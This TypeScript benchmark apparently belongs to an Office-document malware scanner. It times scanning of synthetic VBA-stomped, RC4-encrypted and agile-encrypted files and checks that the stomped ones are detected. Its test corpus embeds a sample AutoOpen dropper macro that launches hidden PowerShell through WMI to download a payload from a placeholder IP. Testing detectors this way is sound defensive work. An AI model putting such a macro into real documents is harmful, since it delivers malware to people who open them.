/**
 * In-process throughput of the encrypted-document and VBA-stomping paths through `scanInput` with every
 * registered engine: compiled VBA projects (.doc-shaped compound files with p-code, half of them
 * stomped), RC4 CryptoAPI .xls workbooks decrypted with VelvetSweatshop, and agile-encrypted .docm
 * packages (100,000 SHA-512 spins each, what Office writes). The notes give files/s per kind: the agile
 * key derivation dominates its kind by design (it is the password-hardening cost).
 *
 * Env: BENCH_FILES=<n> scales the p-code corpus (default 2,000); RC4 and agile counts follow.
 */
import { buildDocm } from '../src/formats/ooxml/index.js';
import { buildVbaProjectBin, vbaModuleSource } from '../src/formats/ovba/index.js';
import { scanInput } from '../src/pipeline/index.js';
import { buildEncryptedXls, encryptAgile } from '../test/builders/offcrypto.js';
import { buildPcodeProject } from '../test/builders/pcode.js';
import { benchResult, startRssSampler, type BenchResult } from './lib.js';

export const name = 'offcrypto-pcode';

const DROPPER = [
  'Sub AutoOpen()',
  '    Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")',
  '    w.Create "powershell -nop -w hidden -c iwr http://192.0.2.10/a.bin", Null, Null, pid',
  'End Sub',
].join('\n');

function padding(i: number): string {
  return Array.from(
    { length: 40 },
    (_, k) => `    s${k} = "line ${k} of module ${i}" & CStr(${k})`,
  ).join('\n');
}

function corpus(count: number) {
  const pcode = Array.from({ length: count }, (_, i) => {
    const body = `Sub Work${i}()\n${padding(i)}\nEnd Sub`;
    const isStomped = i % 2 === 0;
    return buildPcodeProject({
      root: 'Macros',
      modules: [
        {
          name: `Module${i}`,
          source: body,
          compiledFrom: isStomped ? `${DROPPER}\n${body}` : body,
        },
      ],
    }).bytes;
  });
  const rc4 = Array.from(
    { length: Math.max(1, count / 10) },
    (_, i) =>
      buildEncryptedXls(`cell ${i} http://198.51.100.${i % 250}/x`, { seed: `x${i}` }).bytes,
  );
  const docm = buildDocm({
    vbaProjectBin: buildVbaProjectBin({
      modules: [{ name: 'M', code: vbaModuleSource('M', DROPPER) }],
    }),
  });
  const agile = Array.from({ length: Math.max(1, count / 200) }, (_, i) =>
    encryptAgile(docm, { seed: `a${i}` }),
  );
  return { pcode, rc4, agile };
}

async function timeScan(
  files: Uint8Array[],
): Promise<{ seconds: number; bytes: number; stomped: number }> {
  const started = process.hrtime.bigint();
  let bytes = 0;
  let stomped = 0;
  for (const [i, file] of files.entries()) {
    const result = await scanInput({ path: `f${i}`, bytes: file });
    if (result.findings.some((f) => f.id === 'vba.stomped')) stomped++;
    bytes += file.length;
  }
  return { seconds: Number(process.hrtime.bigint() - started) / 1e9, bytes, stomped };
}

export async function run(): Promise<BenchResult> {
  const count = Number(process.env.BENCH_FILES || 2000);
  const { pcode, rc4, agile } = corpus(count);
  const rss = startRssSampler();
  const p = await timeScan(pcode);
  const r = await timeScan(rc4);
  const a = await timeScan(agile);
  const peakRssMb = rss.stop();
  if (p.stomped !== Math.ceil(pcode.length / 2)) {
    throw new Error(`expected ${Math.ceil(pcode.length / 2)} stomped files, found ${p.stomped}`);
  }
  const rate = (n: number, s: number) => `${(n / s).toFixed(0)} files/s`;
  return benchResult({
    name,
    items: pcode.length + rc4.length + agile.length,
    bytes: p.bytes + r.bytes + a.bytes,
    seconds: p.seconds + r.seconds + a.seconds,
    peakRssMb,
    notes: [
      `p-code .doc ${pcode.length}: ${rate(pcode.length, p.seconds)} (${p.stomped} stomped found)`,
      `RC4 .xls ${rc4.length}: ${rate(rc4.length, r.seconds)}`,
      `agile .docm ${agile.length}: ${rate(agile.length, a.seconds)}`,
    ].join('; '),
  });
}
